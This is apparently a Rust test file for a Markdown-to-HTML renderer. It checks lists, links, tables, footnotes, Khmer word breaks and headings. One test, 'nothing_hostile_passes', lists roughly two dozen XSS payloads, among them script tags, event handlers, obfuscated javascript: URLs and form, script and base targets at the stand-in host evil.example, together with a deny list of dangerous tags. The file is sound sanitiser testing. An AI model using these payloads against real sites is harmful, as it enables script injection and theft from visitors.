//! Markdown in, HTML out: the form of the HTML, and that nothing hostile passes.

mod as_typed;
mod raw_html;

use super::*;
use crate::content::markdown;
use crate::diagnostic::Report;
use crate::khmer::Segmenter;

fn written(markdown: &str) -> (String, Report) {
    let (html, report) = tried(markdown);
    (html.expect("HTML that does no harm"), report)
}

fn tried(markdown: &str) -> (Result<String, Harm>, Report) {
    let mut report = Report::new();
    let segmenter = Segmenter::new(&[]);
    let document = markdown::parse("a.md", markdown, 0..markdown.len(), &segmenter, &mut report);
    let strings = [
        ("table", "Table"),
        ("task_open", "To do"),
        ("task_done", "Done"),
    ];
    let strings = strings.map(|(key, words)| (key.to_owned(), words.to_owned()));
    let strings = BTreeMap::from(strings);
    let component = |id| {
        let name = &document.call(id).name;
        format!("<aside onclick=\"{name}\"></aside>")
    };
    let html = write(&HtmlOptions {
        document: &document,
        language: &Language::new("en"),
        breaks: LineBreaks::None,
        link: &|id| document.link(id).to.to_string(),
        picture: &|id| ImageView {
            src: document.picture(id).source.to_string(),
            size: Some((3, 2)),
            webp: Vec::new(),
        },
        component: &component,
        headings: &Cell::default(),
        strings: &strings,
    });
    (html, report)
}

fn html(markdown: &str) -> String {
    written(markdown).0
}

#[track_caller]
fn check(markdown: &str, expected: &str) {
    assert_eq!(html(markdown), expected);
}

#[test]
fn blocks_are_compact() {
    check(
        "a *b* **c** ~~d~~ `e<`\nf\\\ng",
        "<p>a <em>b</em> <strong>c</strong> <s>d</s> <code>e&lt;</code>\nf<br>g</p>",
    );
    check(
        "3. a\n4. b\n\n> q\n\n---\n",
        "<ol start=\"3\"><li>a</li><li>b</li></ol><blockquote><p>q</p></blockquote><hr>",
    );
    check(
        "- a\n\n- b\n  - c",
        "<ul><li><p>a</p></li><li><p>b</p><ul><li>c</li></ul></li></ul>",
    );
    check(
        "Term\n: one\n: two\n",
        "<dl><dt>Term</dt><dd>one</dd><dd>two</dd></dl>",
    );
    check(
        "```rust x\na & b\n```",
        "<pre><code class=\"language-rust\">a &amp; b\n</code></pre>",
    );
}

#[test]
fn things_to_do_have_boxes_that_are_heard() {
    check(
        "- [ ] a\n- [x] b\n  - [X] c",
        "<ul class=\"tasks\"><li><span class=\"box\" role=\"img\" aria-label=\"To do\"></span> a</li>\
         <li><span class=\"box done\" role=\"img\" aria-label=\"Done\"></span> b\
         <ul class=\"tasks\"><li><span class=\"box done\" role=\"img\" aria-label=\"Done\"></span> c</li></ul></li></ul>",
    );
    check(
        "1. [ ] a\n\n2. b",
        "<ol><li><p><span class=\"box\" role=\"img\" aria-label=\"To do\"></span> a</p></li><li><p>b</p></li></ol>",
    );
    check("[ ] a\n\n- b [x]", "<p>[ ] a</p><ul><li>b [x]</li></ul>");
}

#[test]
fn names_with_spaces_and_bare_addresses_are_links() {
    for (markdown, expected) in [
        ("[a](my file.pdf)", "<a href=\"my file.pdf\">a</a>"),
        (
            "[a](ទឹក ស្អាត (១).pdf \"b c\")",
            "<a href=\"ទឹក ស្អាត (១).pdf\" title=\"b c\">a</a>",
        ),
        (
            "[a](<my file.pdf>) [b](my%20file.pdf)",
            "<a href=\"my file.pdf\">a</a> <a href=\"my%20file.pdf\">b</a>",
        ),
        ("[a]( ../b c/d.md#e )", "<a href=\"../b c/d.md#e\">a</a>"),
        (
            "[a](tel:០១២ ៣៤៥) [b](012 345 678)",
            "<a href=\"tel:012345\">a</a> <a href=\"tel:012345678\">b</a>",
        ),
        (
            "[a](https://x.org/b c)",
            "<a href=\"https://x.org/b%20c\" rel=\"noopener noreferrer\">a</a>",
        ),
        (
            "[a][b]\n\n[b]: my file.pdf",
            "<a href=\"my file.pdf\">a</a>",
        ),
        ("[a](see below) b", "[a](see below) b"),
        (
            "`[a](my file.pdf)` [a](b \"c d\")",
            "<code>[a](my file.pdf)</code> <a href=\"b\" title=\"c d\">a</a>",
        ),
        (
            "https://x.org/a_b_*c*~d~e f",
            "<a href=\"https://x.org/a_b_*c*~d~e\" rel=\"noopener noreferrer\">https://x.org/a_b_*c*~d~e</a> f",
        ),
        (
            "**https://x.org**, *www.x.org*",
            "<strong><a href=\"https://x.org\" rel=\"noopener noreferrer\">https://x.org</a></strong>, <em><a href=\"https://www.x.org\" rel=\"noopener noreferrer\">www.x.org</a></em>",
        ),
        (
            "[a https://x.org b](c) <a href=\"d\">e@x.org</a> `https://x.org`",
            "<a href=\"c\">a https://x.org b</a> <a href=\"d\">e@x.org</a> <code>https://x.org</code>",
        ),
        (
            "<https://x.org/a_b> [c](https://x.org/a_b)",
            "<a href=\"https://x.org/a_b\" rel=\"noopener noreferrer\">https://x.org/a_b</a> <a href=\"https://x.org/a_b\" rel=\"noopener noreferrer\">c</a>",
        ),
        (
            "a@x.org។ &amp; b",
            "<a href=\"mailto:a@x.org\">a@x.org</a>។ &amp; b",
        ),
    ] {
        check(markdown, &format!("<p>{expected}</p>"));
    }
    // Quotation marks and no-break spaces are no control characters, though they begin as some do.
    check(
        "«a»\u{a0}![b](b c.png)",
        "<p>«a»\u{a0}<img src=\"b c.png\" alt=\"b\" width=\"3\" height=\"2\"></p>",
    );
    check(
        "![a](b c.png)",
        "<p><img src=\"b c.png\" alt=\"a\" width=\"3\" height=\"2\"></p>",
    );
    check(
        "    https://x.org/a_b",
        "<p><a href=\"https://x.org/a_b\" rel=\"noopener noreferrer\">https://x.org/a_b</a></p>",
    );
    check(
        "```a b\n[a](b c.pdf) https://x.org/_a\n```",
        "<pre><code class=\"language-a\">[a](b c.pdf) https://x.org/_a\n</code></pre>",
    );
    check(
        "## www.x.org",
        "<h2 id=\"www-x-org\"><a href=\"https://www.x.org\" rel=\"noopener noreferrer\">www.x.org</a></h2>",
    );
}

#[test]
fn headings_begin_at_two_and_skip_no_level() {
    check(
        "# A\n#### B\n## ទឹក\n## Budget 2026\n## Budget 2026 {#own}\n## Budget 2026",
        "<h2 id=\"a\">A</h2><h3 id=\"b\">B</h3><h3 id=\"section-3\">ទឹក</h3><h3 id=\"budget-2026\">Budget 2026</h3><h3 id=\"own\">Budget 2026</h3><h3 id=\"budget-2026-2\">Budget 2026</h3>",
    );
}

#[test]
fn a_wide_table_scrolls_and_an_empty_cell_heads_nothing() {
    check(
        "| |b|\n|-|-:|\n|1|2|",
        "<div class=\"fit\"><table><thead><tr><td></td><th scope=\"col\" class=\"right\">b</th></tr></thead><tbody><tr><td>1</td><td class=\"right\">2</td></tr></tbody></table></div>",
    );
    let scrolls = |table: &str| {
        html(table).starts_with(
            "<div class=\"table\" role=\"group\" tabindex=\"0\" aria-label=\"Table\"><table>",
        )
    };
    assert!(scrolls("|a|b|c|d|\n|-|-|-|-|"));
    // 22 letters of code, and a word of 8 beside them, take more than 288 pixels.
    assert!(scrolls("|a|b|\n|-|-|\n|`data/datapackage.json`|(Package)|"));
    assert!(!scrolls("|a|b|\n|-|-|\n|`data/datapackage.json`|one two|"));
    assert!(!scrolls(
        "|a|b|\n|-|-|\n|x|`data/datapackage.json/and/more`|"
    ));
    assert!(scrolls(
        "|a|b|c|\n|-|-|-|\n|ខណ្ឌ|**២\u{a0}០០០\u{a0}ពាន់លាន**|១០០\u{a0}ពាន់លាន|"
    ));
}

#[test]
fn footnotes_lead_there_and_back() {
    check(
        "a[^x] b[^x] c[^ខ]\n\n[^ខ]: z\n\n[^x]: y",
        "<p>a<sup><a href=\"#fn-x\" id=\"fnref-x\" role=\"doc-noteref\">1</a></sup> b<sup><a href=\"#fn-x\" id=\"fnref-x-2\" role=\"doc-noteref\">1</a></sup> c<sup><a href=\"#fn--2\" id=\"fnref--2\" role=\"doc-noteref\">2</a></sup></p><section class=\"footnotes\" role=\"doc-endnotes\"><ol><li id=\"fn-x\"><p>y <a href=\"#fnref-x\" role=\"doc-backlink\">↩</a> <a href=\"#fnref-x-2\" role=\"doc-backlink\">↩</a></p></li><li id=\"fn--2\"><p>z <a href=\"#fnref--2\" role=\"doc-backlink\">↩</a></p></li></ol></section>",
    );
}

#[test]
fn links_out_send_no_referrer_and_text_is_escaped() {
    check(
        "[a<](https://e.org/?a&b \"t\\\"\") <b@c.org>",
        "<p><a href=\"https://e.org/?a&amp;b\" rel=\"noopener noreferrer\" title=\"t&quot;\">a&lt;</a> <a href=\"mailto:b@c.org\">b@c.org</a></p>",
    );
    check(
        "![a](b.png \"c\")",
        "<figure><img src=\"b.png\" alt=\"a\" width=\"3\" height=\"2\" title=\"c\"><figcaption>c</figcaption></figure>",
    );
}

#[test]
fn components_are_trusted_beside_raw_html_too() {
    let own = "<aside onclick=\"a\"></aside>";
    assert_eq!(html("x {{ a() }}"), format!("<p>x {own}</p>"));
    assert_eq!(
        html("## H\n\nx {{ a() }} <b onclick=y>z</b>"),
        format!("<h2 id=\"h\">H</h2><p>x {own} <b>z</b></p>")
    );
}

#[test]
fn raw_html_changes_nothing_of_the_text_around_it() {
    for text in [
        "```rust\na < b\n```",
        "[in](c.txt#d) [here](#x) [out](https://e.org/?a&b \"t\") <b@c.org> [call](tel:012)\n\n## H {#x}",
        "|a|b|c|d|\n|-|-:|:-:|:-|\n|1|2|3|4|",
        "a[^1] b[^1]\n\n[^1]: c",
        "3. a\n4. b\n\n> q\n\n---\n\n![a](b.png) ![a](b.png \"c\")\\\n*b* **c** ~~d~~ `e`",
        "Term\n: one\n: two",
    ] {
        let with_html = html(&format!("<u>x</u>\n\n{text}"));
        assert_eq!(with_html, format!("<p><u>x</u></p>{}", html(text)));
    }
}

#[test]
fn raw_html_keeps_what_is_harmless() {
    for (raw, left) in [
        (
            "<pre><code class=\"language-c++\">a</code></pre>",
            "<pre><code class=\"language-c++\">a</code></pre>",
        ),
        ("<code class=\"language-\">a</code>", "<code>a</code>"),
        (
            "<span class=\"w\">a</span><span class=\"band\">b</span>",
            "<span>a</span><span>b</span>",
        ),
        (
            "<a href=\"b.html\" rel=\"me\">a</a>",
            "<a href=\"b.html\">a</a>",
        ),
        (
            "<a href=\"/data/b.csv#c\">a</a>",
            "<a href=\"/data/b.csv#c\">a</a>",
        ),
        ("<a href=\"#b\">a</a>", "<a href=\"#b\">a</a>"),
        (
            "<a href=\"mailto:b@c.org\">a</a>",
            "<a href=\"mailto:b@c.org\">a</a>",
        ),
        (
            "<a title=\"t\" href=\" HTTPS://e.org/?a&b\">a</a>",
            "<a title=\"t\" href=\"HTTPS://e.org/?a&amp;b\" rel=\"noopener noreferrer\">a</a>",
        ),
        (
            "<a href=\"//e.org\">a</a><a href=\"\\/e.org\">b</a>",
            "<a>a</a><a>b</a>",
        ),
        (
            "<a href=\"ht&#9;tp://e.org\">a</a>",
            "<a href=\"http://e.org\" rel=\"noopener noreferrer\">a</a>",
        ),
        ("<a>a</a>", "<a>a</a>"),
    ] {
        assert_eq!(
            html(&format!("<div>{raw}</div>")),
            format!("<div>{left}</div>")
        );
    }
}

#[test]
fn nothing_hostile_passes() {
    for hostile in [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example/x.js></sCrIpT>",
        "<script>\n\nunclosed",
        "x <img src=a onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "x <a href=\" java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<form action=//evil.example><input name=a></form>",
        "<p style=\"position:fixed\">x</p>",
        "<object data=//evil.example></object><embed src=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example><base href=//evil.example/>",
        "<img src=https://evil.example/a.png><img src=//evil.example/a.png><img src=\"\\\\evil.example\">",
        "<noscript><p title=\"</noscript><img src=a onerror=alert(1)>\">",
        "<div title=\"\n\n{{ a() }}\n\n\">x",
        "<style>@import '//evil.example';</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<video src=//evil.example autoplay></video>",
        "<a href=x target=_blank ping=//evil.example>x</a>",
    ] {
        let html = html(hostile).replace("<aside onclick=\"a\"></aside>", "");
        for bad in [
            "<script",
            "onerror",
            "onload",
            "onclick",
            "javascript",
            "<svg",
            "<iframe",
            "<form",
            "style",
            "evil.example",
            "<math",
            "<meta",
            "<base",
            "data:",
            "<object",
            "target=",
        ] {
            // What an author wrote as text, or as a title, may stand there as text.
            let tags: String = raw_html::as_browsers_see(&html)
                .into_iter()
                .map(|(name, attributes)| {
                    let attributes = attributes.into_iter().map(|(name, value)| match &*name {
                        "title" => name,
                        _ => format!("{name}={value}"),
                    });
                    format!("<{name} {}", attributes.collect::<Vec<_>>().join(" "))
                })
                .collect::<String>()
                .to_lowercase();
            assert!(!tags.contains(bad), "{bad} in {html} from {hostile}");
        }
    }
}

#[test]
fn an_id_in_raw_html_cannot_take_the_place_of_ours() {
    assert_eq!(
        html("## Budget\n\n<p id=\"budget\" title=\"t\">x</p>"),
        "<h2 id=\"budget\">Budget</h2><p title=\"t\">x</p>"
    );
}

#[test]
fn endless_nesting_ends() {
    for (open, close) in [
        ("[", "]"),
        ("> ", ""),
        ("*a ", "*"),
        ("- ", ""),
        ("![", "](x)"),
        ("`", ""),
        ("{{ a(", ""),
    ] {
        let text = format!("{}x{}", open.repeat(10_000), close.repeat(10_000));
        let (html, _) = written(&text);
        assert!(html.len() < 4_000_000, "{open}");
    }
    assert_eq!(tried(&"<div>".repeat(10_000)).0, Err(Harm::TooDeep));
    let (_, report) = written(&"> ".repeat(10_000));
    assert_eq!(report.sorted()[0].code.id, "E215");
}

#[test]
fn breaks_stand_in_khmer_text_and_not_in_code() {
    let mut report = Report::new();
    let text = "ប្រជាពលរដ្ឋកម្ពុជា & `ប្រជាពលរដ្ឋកម្ពុជា`";
    let segmenter = Segmenter::new(&[]);
    let document = markdown::parse("a.md", text, 0..text.len(), &segmenter, &mut report);
    let with = |breaks| {
        let options = HtmlOptions {
            document: &document,
            language: &Language::new("km"),
            breaks,
            link: &|id| document.link(id).to.to_string(),
            picture: &|_| ImageView::default(),
            component: &|_| String::new(),
            headings: &Cell::default(),
            strings: &BTreeMap::new(),
        };
        write(&options).unwrap()
    };
    let plain = with(LineBreaks::None);
    assert_eq!(plain, "<p>ប្រជាពលរដ្ឋកម្ពុជា &amp; <code>ប្រជាពលរដ្ឋកម្ពុជា</code></p>");
    for (breaks, separator) in [(LineBreaks::Zwsp, "\u{200b}"), (LineBreaks::Wbr, "<wbr>")] {
        let broken = with(breaks);
        // A browser would cut the first of the two words.
        let whole = format!("<w->ប្រជាពលរដ្ឋ</w->{separator}កម្ពុជា &amp;");
        assert!(broken.contains(&whole), "{broken}");
        let bare = broken.replace("<w->", "").replace("</w->", "");
        assert_eq!(bare.replace(separator, ""), plain);
        assert!(broken.ends_with("<code>ប្រជាពលរដ្ឋកម្ពុជា</code></p>"));
    }
}

#[test]
fn the_headings_of_a_note_go_on_from_those_before_it() {
    let mut report = Report::new();
    let text = "## a\n\n### b\n\n{% note() %}\n#### c\n{% end %}\n\n#### d\n";
    let segmenter = Segmenter::new(&[]);
    let document = markdown::parse("a.md", text, 0..text.len(), &segmenter, &mut report);
    let headings = Cell::default();
    let with = |component: &dyn Fn(CallId) -> String, blocks: Option<&[Block]>| {
        let options = HtmlOptions {
            document: &document,
            language: &Language::new("en"),
            breaks: LineBreaks::None,
            link: &|_| String::new(),
            picture: &|_| ImageView::default(),
            component,
            headings: &headings,
            strings: &BTreeMap::new(),
        };
        let written = match blocks {
            Some(blocks) => write_blocks(blocks, &options),
            None => write(&options),
        };
        written.unwrap()
    };
    let inner = |id| with(&|_| String::new(), document.call(id).body.as_deref());
    let html = with(&inner, None);
    assert_eq!(
        html,
        "<h2 id=\"a\">a</h2><h3 id=\"b\">b</h3><h4 id=\"c\">c</h4><h4 id=\"d\">d</h4>"
    );
}
